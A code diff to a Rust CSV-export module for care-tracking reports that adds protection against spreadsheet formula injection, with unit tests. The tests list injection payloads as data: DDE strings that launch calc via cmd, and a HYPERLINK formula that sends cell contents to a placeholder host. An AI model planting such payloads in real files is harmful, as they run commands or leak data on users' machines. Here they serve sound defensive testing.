@@ -5,6 +5,12 @@
 //! `EXPORT`. A suppressed figure is written as `c`, a figure that does not exist as an
 //! empty cell.
 //!
+//! Every cell of every export passes through [`neutralise`] (OWASP's advice on CSV
+//! injection): a text that a spreadsheet would read as a formula — one starting with `=`,
+//! `+`, `-`, `@`, a tab, a carriage return or a line feed — is written with a leading `'`,
+//! so that it opens as the text it is. A cell that is a plain number (a negative `gap` of
+//! the sufficiency report, `-3`) is a figure, not a formula, and is written as it is.
+//!
 //! | report | parameters |
 //! | --- | --- |
 //! | `scorecard` | `asOf`, `from` + `to`, `authorities` (codes, comma-separated) |
@@ -12,6 +18,7 @@
 //! | `sufficiency` | `asOf`, `authorities` |
 //! | `funnel` | `from` + `to` (required), `asOf`, `authorities`, `groupBy` (comma-separated) |
 //! | `flows` | `from` + `to` (required), `authorities` |
+use std::borrow::Cow;
 use std::collections::HashMap;
 
 use async_graphql::{Name, Value, Variables};
@@ -200,9 +207,57 @@ fn scalar(v: &Json) -> String {
     }
 }
 
+/// The characters a spreadsheet starts a formula (or a DDE command) with, the full-width
+/// forms too.
+const FORMULA_STARTS: [char; 11] = [
+    '=', '+', '-', '@', '\t', '\r', '\n', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
+];
+
+/// `cell` made safe to open in a spreadsheet: prefixed with `'` when it starts — or starts
+/// after spaces — with a character of [`FORMULA_STARTS`], unless it is a plain number such as
+/// `-3` or `-2.5`. The CSV writer then quotes it as needed (a cell holding `"`, `,`, CR or
+/// LF is quoted, inner quotes doubled).
+pub fn neutralise(cell: &str) -> Cow<'_, str> {
+    let visible = cell.trim_start_matches(' ');
+    let risky = visible.starts_with(FORMULA_STARTS);
+    if risky && !is_number(cell) {
+        Cow::Owned(format!("'{cell}"))
+    } else {
+        Cow::Borrowed(cell)
+    }
+}
+
+/// Whether `cell` is a plain decimal number: an optional `-`, digits, and optionally a `.`
+/// and more digits.
+fn is_number(cell: &str) -> bool {
+    let digits = cell.strip_prefix('-').unwrap_or(cell);
+    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
+    !whole.is_empty()
+        && !fraction.is_empty()
+        && whole.bytes().all(|b| b.is_ascii_digit())
+        && fraction.bytes().all(|b| b.is_ascii_digit())
+}
+
+/// A CSV writer whose every cell goes through [`neutralise`].
+struct Cells(csv::Writer<Vec<u8>>);
+
+impl Cells {
+    fn write_record<I, T>(&mut self, record: I) -> Result<(), csv::Error>
+    where
+        I: IntoIterator<Item = T>,
+        T: AsRef<str>,
+    {
+        self.0.write_record(
+            record
+                .into_iter()
+                .map(|c| neutralise(c.as_ref()).into_owned()),
+        )
+    }
+}
+
 /// Writes the CSV of `report` from the data of its query(s).
 pub fn to_csv(report: Report, pages: &[Json]) -> Result<Vec<u8>, csv::Error> {
-    let mut w = csv::Writer::from_writer(Vec::new());
+    let mut w = Cells(csv::Writer::from_writer(Vec::new()));
     match report {
         Report::Scorecard => {
             w.write_record([
@@ -467,7 +522,7 @@ pub fn to_csv(report: Report, pages: &[Json]) -> Result<Vec<u8>, csv::Error> {
             }
         }
     }
-    w.into_inner().map_err(|e| e.into_error().into())
+    w.0.into_inner().map_err(|e| e.into_error().into())
 }
 
 /// The HTTP status of a report's error code.
@@ -494,4 +549,64 @@ pub fn csv_response(file: &str, body: Vec<u8>) -> Response {
         headers.insert(header::CONTENT_DISPOSITION, v);
     }
     response
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_cell_a_spreadsheet_would_run_is_written_as_text() {
+        for cell in [
+            r#"=HYPERLINK("http://x?"&A1,"Click")"#,
+            "+1+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\t=1+1",
+            "\r=1+1",
+            "\n=1+1",
+            "  =1+1",
+            "\u{FF1D}1+1",
+            "-",
+            "-3x",
+        ] {
+            assert_eq!(neutralise(cell), format!("'{cell}"), "{cell:?}");
+        }
+    }
+
+    #[test]
+    fn ordinary_text_and_numbers_are_left_as_they_are() {
+        for cell in [
+            "",
+            "alder",
+            "c",
+            "Ruby",
+            "A=B",
+            "2024-06-30",
+            "-3",
+            "-2.5",
+            "0",
+            "12.5",
+            "TOTAL",
+        ] {
+            assert_eq!(neutralise(cell), cell, "{cell:?}");
+        }
+    }
+
+    #[test]
+    fn a_neutralised_cell_is_quoted_with_its_quotes_doubled() {
+        let pages = [json!({ "trackingAlerts": { "edges": [{ "node": {
+            "kind": "IN_CARE_OVER426_DAYS_NOT_PLACED", "since": "2024-01-01", "daysOverdue": 3,
+            "projectedA1Days": 429, "projectedOverThreshold": true,
+            "child": { "id": "Q2hpbGQ6MQ", "profileName": r#"=HYPERLINK("http://x?"&A1,"Click")"#,
+                       "authority": { "code": "alder" } } } }] } })];
+        let csv = String::from_utf8(to_csv(Report::Tracking, &pages).unwrap()).unwrap();
+        assert_eq!(
+            csv.lines().nth(1),
+            Some(
+                r#"Q2hpbGQ6MQ,"'=HYPERLINK(""http://x?""&A1,""Click"")",alder,IN_CARE_OVER426_DAYS_NOT_PLACED,2024-01-01,3,429,true"#
+            ),
+            "{csv}"
+        );
+    }
 }
